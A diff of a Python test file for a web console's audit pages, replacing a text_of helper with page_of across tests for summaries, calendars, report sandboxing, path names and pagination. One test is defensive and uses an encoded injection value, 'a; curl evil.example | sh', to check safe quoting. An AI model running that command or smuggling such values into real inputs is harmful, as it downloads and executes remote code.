@@ -14,11 +14,10 @@ import pytest
 from reconciler.clock import ManualClock
 from reconciler.web.audits.check import WAITING, AuditCheck
 from reconciler.web.audits.shelf import AuditShelf
-from reconciler.web.exchange import WebResponse
 from reconciler.web.services import WebServices
 from tests.polling import eventually
 from tests.unit.web.audit_cases import DAY_MS, START_MS, altered, check, folder_with, known_shelf, shelf_of, statement
-from tests.unit.web.console_world import asked, services_of, settings_of
+from tests.unit.web.console_world import asked, page_of, services_of, settings_of
 
 REPORT = "<h1>Report</h1>"
 SIGNED = statement(report_sha256=hashlib.sha256(REPORT.encode()).hexdigest())
@@ -49,11 +48,6 @@ def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebServices]:
     found.connections.close()
 
 
-def text_of(answer: WebResponse) -> str:
-    assert answer.status is HTTPStatus.OK, answer.body
-    return answer.body.decode()
-
-
 def sentence_in(page: str) -> str:
     found = re.search(r'<h2 id="sentence">(.*?)</h2>', page, re.DOTALL)
     assert found
@@ -61,7 +55,7 @@ def sentence_in(page: str) -> str:
 
 
 def test_what_is_wrong_is_not_in_the_first_sentence(services: WebServices) -> None:
-    page = text_of(asked(services, "/audits"))
+    page = page_of(services, "/audits")
     assert sentence_in(page) == (
         "The last day that is audited and verified is 2026-11-21; audits that are not as they were signed: 1; "
         "violations: 2, in 1 audits; audits that nothing vouches for: 1; days without a statement: 1."
@@ -71,7 +65,7 @@ def test_what_is_wrong_is_not_in_the_first_sentence(services: WebServices) -> No
 
 
 def test_a_month_shows_each_day_with_its_state_in_words(services: WebServices) -> None:
-    page = text_of(asked(services, "/audits?month=2026-11"))
+    page = page_of(services, "/audits?month=2026-11")
     table = page.split('<table class="calendar">')[1].split("</table>")[0]
     cells = re.findall(r"<td.*?</td>", table, re.DOTALL)
     told = {}
@@ -89,7 +83,7 @@ def test_a_month_shows_each_day_with_its_state_in_words(services: WebServices) -
         "25": "25 not due",
     }
     assert "/audits/2026-11-23" in table
-    other = text_of(asked(services, "/audits?month=2026-12"))
+    other = page_of(services, "/audits?month=2026-12")
     assert other.count("not due") == 31
 
 
@@ -101,12 +95,12 @@ def test_a_month_or_a_page_that_there_is_not_is_refused(services: WebServices, q
 
 
 def test_who_signed_and_what_was_altered_is_not_on_the_page_of_an_audit(services: WebServices) -> None:
-    page = text_of(asked(services, "/audits/2026-11-23"))
+    page = page_of(services, "/audits/2026-11-23")
     assert "do not rely on this audit" in page
     assert "altered: its SHA-256 is not the signed one" in page
     assert "result.json" in page
     assert "statement verify" in page
-    unsigned = text_of(asked(services, "/audits/2026-11-24"))
+    unsigned = page_of(services, "/audits/2026-11-24")
     assert "it says that it is not signed" in unsigned
     assert "Nobody whose key is set here" in unsigned
 
@@ -117,10 +111,10 @@ def test_a_report_runs_a_script_or_is_shown_though_nobody_vouches_for_it(service
     policy = answer.headers["Content-Security-Policy"].split("; ")
     assert policy[:2] == ["sandbox", "default-src 'none'"]
     assert not [part for part in policy if part.startswith("script-src") or "allow-" in part]
-    assert "/audits/2026-11-20/report" in text_of(asked(services, "/audits/2026-11-20"))
+    assert "/audits/2026-11-20/report" in page_of(services, "/audits/2026-11-20")
     for name in ("2026-11-21", "2026-11-23", "2026-11-24", "none"):  # of the first the digest is another one
         assert asked(services, f"/audits/{name}/report").status is HTTPStatus.NOT_FOUND
-    assert "/report" not in text_of(asked(services, "/audits/2026-11-23"))
+    assert "/report" not in page_of(services, "/audits/2026-11-23")
 
 
 @pytest.mark.parametrize("name", ["none", "..", ".", "auditor.pem.pub", "%2e%2e"])
@@ -134,9 +128,9 @@ def test_a_name_acts_in_the_shell_of_who_pastes_the_command_or_in_the_page(tmp_p
     (Path(shelf.folder) / "latest").symlink_to("x")
     services = services_with(tmp_path, shelf)
     with services.connections:
-        page = text_of(asked(services, "/audits/a%3B%20curl%20evil.example%20%7C%20sh"))
+        page = page_of(services, "/audits/a%3B%20curl%20evil.example%20%7C%20sh")
         assert f"verify &#39;{shelf.folder}/{names[0]}&#39; --public-key" in page
-        assert "<pre" not in text_of(asked(services, "/audits/a%0Ab"))
+        assert "<pre" not in page_of(services, "/audits/a%0Ab")
 
 
 def test_a_link_to_the_newest_audit_calls_a_person(tmp_path: Path) -> None:
@@ -146,12 +140,12 @@ def test_a_link_to_the_newest_audit_calls_a_person(tmp_path: Path) -> None:
     services = services_with(tmp_path, fresh)
     with services.connections:
         eventually(
-            lambda: "verified is 2026-11-23" in sentence_in(text_of(asked(services, "/audits"))),
+            lambda: "verified is 2026-11-23" in sentence_in(page_of(services, "/audits")),
             within_seconds=10,
             message="the audit is verified",
         )
-        assert "nothing vouches" not in sentence_in(text_of(asked(services, "/audits")))
-        assert "is a symbolic link" in text_of(asked(services, "/audits"))
+        assert "nothing vouches" not in sentence_in(page_of(services, "/audits"))
+        assert "is a symbolic link" in page_of(services, "/audits")
 
 
 def test_a_page_waits_for_what_is_being_verified(tmp_path: Path) -> None:
@@ -162,11 +156,11 @@ def test_a_page_waits_for_what_is_being_verified(tmp_path: Path) -> None:
 
     services = services_with(tmp_path, shelf_of(folder, key, never))
     with services.connections:
-        page = text_of(asked(services, "/audits"))
+        page = page_of(services, "/audits")
         assert "being verified: 1" in sentence_in(page)
         assert 'hx-trigger="every 3s"' in page
-        assert "<main" not in text_of(asked(services, "/audits?part=now"))
-        one = text_of(asked(services, "/audits/2026-11-20"))
+        assert "<main" not in page_of(services, "/audits?part=now")
+        one = page_of(services, "/audits/2026-11-20")
         assert "It is being verified" in one
         assert 'hx-get="/reconciler/audits/2026-11-20?part=now"' in one
 
@@ -175,16 +169,16 @@ def test_a_folder_that_is_not_set_missing_or_empty_is_a_trouble_without_a_remedy
     folder, key = folder_with(tmp_path)
     unset = services_with(tmp_path, None)
     with unset.connections:
-        assert "audits_public_key" in text_of(asked(unset, "/audits"))
+        assert "audits_public_key" in page_of(unset, "/audits")
         assert asked(unset, "/audits/x").status is HTTPStatus.NOT_FOUND
         assert asked(unset, "/api/v1/audits").status is HTTPStatus.NOT_FOUND
         missing = replace(unset, audits=shelf_of(tmp_path / "gone", key, lambda _name: WAITING))
-        assert "No such file or directory" in text_of(asked(missing, "/audits"))
+        assert "No such file or directory" in page_of(missing, "/audits")
         for address in ("/audits/x", "/audits/x/report", "/api/v1/audits", "/api/v1/audits/x"):
             assert asked(missing, address).status is HTTPStatus.SERVICE_UNAVAILABLE
         folder.mkdir()
         empty = replace(unset, audits=shelf_of(folder, key, lambda _name: WAITING))
-        assert "There is no audit in" in text_of(asked(empty, "/audits"))
+        assert "There is no audit in" in page_of(empty, "/audits")
 
 
 def test_many_audits_are_one_page_or_are_lost_between_two(tmp_path: Path) -> None:
@@ -194,6 +188,6 @@ def test_many_audits_are_one_page_or_are_lost_between_two(tmp_path: Path) -> Non
     with services.connections:
         seen = []
         for number in (1, 2, 3):
-            page = text_of(asked(services, f"/audits?page={number}"))
+            page = page_of(services, f"/audits?page={number}")
             seen += re.findall(r'<th scope="row" class="name"><a href="/reconciler/audits/(\d+)">', page)
     assert seen == sorted(names, reverse=True)
